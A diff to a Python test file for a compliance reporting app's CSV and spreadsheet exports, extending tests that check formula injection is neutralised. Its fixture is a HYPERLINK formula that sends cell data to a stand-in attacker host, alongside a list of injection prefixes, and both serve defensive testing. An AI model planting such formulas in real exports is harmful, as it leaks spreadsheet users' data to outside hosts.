@@ -15,6 +15,7 @@ from openpyxl import load_workbook
 from openpyxl.workbook.workbook import Workbook
 
 from ccm.compliance import exports
+from ccm.compliance.tests.factories import complete_record
 from ccm.registry.tests import factories
 from ccm.reports.choices import Origin
 from ccm.reports.tests.factories import SubmissionFactory
@@ -23,6 +24,7 @@ pytestmark = pytest.mark.django_db
 
 EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
 LISTS_EN = ["Initial reports overdue", "Annual reports missing", "Reports due soon"]
+LISTS_EN += ["Initial reports unknown", "Annual reports unknown"]  # issue #24
 
 
 def _book(client: Client, url: str) -> Workbook:
@@ -31,23 +33,44 @@ def _book(client: Client, url: str) -> Workbook:
     return load_workbook(io.BytesIO(response.content))
 
 
-def test_state_name_beginning_with_equals_is_text_in_the_spreadsheet(client: Client) -> None:
+@pytest.mark.parametrize(
+    ("complete", "sheet_name"),
+    [
+        (True, "Initial reports overdue"),  # the ISU's complete record
+        (False, "Initial reports unknown"),  # issue #24: not in our record
+    ],
+)
+def test_state_name_beginning_with_equals_is_text_in_the_spreadsheet(
+    client: Client, complete: bool, sheet_name: str
+) -> None:
     factories.party("XEV", EVIL, signed="2008-12-03", deposited="2010-12-16")
+    if complete:
+        complete_record("XEV")
     book = _book(client, "/reporting/?as_of=2012-06-01&format=xlsx")
-    sheet = book["Initial reports overdue"]
+    sheet = book[sheet_name]
     cell = sheet["B2"]
     assert cell.value == EVIL and cell.data_type == "s"  # a string, not a formula
     assert cell.hyperlink is None
     assert all(c.data_type != "f" for ws in book.worksheets for row in ws.iter_rows() for c in row)
 
 
-def test_state_name_beginning_with_equals_is_neutralised_in_the_csv(client: Client) -> None:
+@pytest.mark.parametrize(
+    ("complete", "listed", "status"),
+    [(True, "overdue_initial", "overdue"), (False, "unknown_initial", "unknown")],
+)
+def test_state_name_beginning_with_equals_is_neutralised_in_the_csv(
+    client: Client, complete: bool, listed: str, status: str
+) -> None:
     factories.party("XEV", EVIL, signed="2008-12-03", deposited="2010-12-16")
+    if complete:
+        complete_record("XEV")
     content = client.get("/reporting/?as_of=2012-06-01&format=csv").content.decode()
     rows = list(csv.DictReader(io.StringIO(content)))
     assert rows[0]["name"] == "'" + EVIL
     # Other cells keep their data-contract values.
     assert rows[0]["iso3"] == "XEV" and rows[0]["due_date"] == "2011-11-28"
+    assert (rows[0]["list"], rows[0]["status"]) == (listed, status)
+    assert rows[0]["days_overdue"] == ("186" if complete else "")  # none when unknown
 
 
 @pytest.mark.parametrize("cell", ["=1+1", "+1+1", "-1+A1", "@SUM(A1)", "\t=1", "\r=1"])
@@ -114,11 +137,12 @@ def test_spreadsheet_has_a_summary_and_one_sheet_per_list_with_typed_cells(
 
 def test_spreadsheet_speaks_the_pages_language(client: Client, reference: None) -> None:
     book = _book(client, "/fr/reporting/?as_of=2019-08-01&format=xlsx")
-    assert book.sheetnames[1:] == [
+    assert book.sheetnames[1:4] == [
         "Rapports initiaux en retard",
         "Rapports annuels manquants",
         "Rapports à rendre bientôt",
     ]
+    assert len(book.sheetnames) == 6  # and the two lists of reports not in our record
     header = [c.value for c in book["Rapports initiaux en retard"][1]]
     assert header[1] == "État" and header[4] == "Échéance" and "Statut" in header
     assert "Jours de retard" in header
